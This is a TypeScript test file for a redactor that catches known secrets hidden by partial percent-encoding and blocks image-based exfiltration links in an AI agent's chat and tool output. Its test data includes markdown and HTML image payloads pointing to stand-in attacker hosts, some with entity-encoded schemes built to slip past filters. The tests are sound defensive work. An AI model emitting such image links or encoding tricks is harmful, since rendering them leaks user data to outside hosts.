import { describe, expect, it } from 'vitest';
import { KnownSecrets, percentDecode } from '../../src/core/known-secrets.js';
import { decodeEntities, findUrls } from '../../src/core/urls.js';
import { Redactor } from '../../src/redact/redact.js';
import { rand } from './fixtures.js';

/** Percent-encodes the characters of `s` whose index satisfies `pick`. */
function encodeSome(s: string, pick: (c: string, i: number) => boolean, lower = false): string {
  return [...s]
    .map((c, i) => {
      if (!pick(c, i)) return c;
      const h = c.charCodeAt(0).toString(16).padStart(2, '0');
      return `%${lower ? h : h.toUpperCase()}`;
    })
    .join('');
}

describe('known secrets under partial percent-encoding (issue 18.13)', () => {
  const value = `${rand(8)}-${rand(8)}-${rand(8)}`;
  const known = new KnownSecrets();
  known.set('vault/db', value);
  const redactor = new Redactor({ known });

  it('only the dashes encoded, in a tool argument and in chat', () => {
    const enc = encodeSome(value, (c) => c === '-');
    expect(enc).not.toContain(value);
    for (const destination of ['tool_args', 'chat']) {
      const r = redactor.redact(`{"q":"${enc}"}`, { destination });
      expect(r.blocked).toBe(true);
      expect(r.redacted).not.toContain(enc);
      expect(r.redacted).toBe('{"q":"[REDACTED:known_secret]"}');
    }
  });

  it('any subset of characters, lower-case hex, and double encoding', () => {
    const variants = [
      encodeSome(value, (_c, i) => i % 3 === 0),
      encodeSome(value, (_c, i) => i % 2 === 1, true),
      encodeSome(value, () => true),
      encodeSome(value, (c) => c === '-').replace(/%/g, '%25'),
    ];
    for (const v of variants) {
      const hits = known.find(`x=${v}&y=1`);
      expect(hits.length, v).toBeGreaterThan(0);
      expect(hits[0]).toMatchObject({ encoding: 'url', start: 2, end: 2 + v.length });
    }
  });

  it('escapes that are not the secret decode to nothing new; a near-miss is not matched', () => {
    expect(known.find(`a%20b ${value.slice(0, -1)}%2D`)).toEqual([]);
    expect(percentDecode('no escapes %zz %0')).toBeUndefined();
    const d = percentDecode('a%2Db');
    expect(d?.text).toBe('a-b');
    expect([...(d?.map ?? [])]).toEqual([0, 1, 4, 5]);
  });
});

describe('exfiltration carriers the renderer resolves (issue 18.13)', () => {
  const redactor = new Redactor({ allowDomains: ['github.com'] });

  it('a protocol-relative markdown image to an unknown host is blocked; one to an allowed host is not', () => {
    const r = redactor.redact(`Done. ![status](//collect.attacker.test/p.png?d=${rand(12)})`, { destination: 'chat' });
    expect(r.blocked).toBe(true);
    expect(r.findings.map((f) => f.kind)).toContain('exfil_image');
    expect(redactor.redact('![ci](//github.com/o/r/badge.svg)').blocked).toBe(false);
  });

  it('protocol-relative src attributes load by themselves', () => {
    const r = redactor.redact(`<img src='//img.attacker.test/x.gif?c=${rand(30)}'>`);
    expect(r.findings[0]).toMatchObject({ kind: 'exfil_image', category: 'exfil' });
  });

  it('entity-encoded schemes and separators in <img src> are resolved', () => {
    for (const src of [
      '&#104;ttps://evil.attacker.test/a.png?k=1',
      '&#x68;&#x74;tps&colon;//evil.attacker.test/a.png',
      '&#0000104ttps&#58;&#47;&#47;evil.attacker.test/a.png',
    ]) {
      const text = `<p>hi</p><img src="${src}">`;
      const r = redactor.redact(text);
      expect(r.blocked, src).toBe(true);
      const f = r.findings.find((x) => x.kind === 'exfil_image');
      // The finding covers the encoded URL in the original text.
      expect(text.slice(f!.start, f!.end), src).toBe(src);
    }
  });

  it('ordinary text is not mistaken for a carrier', () => {
    for (const t of [
      'a // comment about example.com',
      'x = a // b.c',
      'see https://github.com/a?x=1&amp;y=2',
      'Tom &amp; Jerry &#169; 2026',
      '[docs](//github.com/o/r)',
    ]) {
      expect(redactor.redact(t).blocked, t).toBe(false);
    }
    expect(decodeEntities('plain & simple')).toBeUndefined();
    expect(findUrls('path //not-a-host here').length).toBe(0);
  });
});
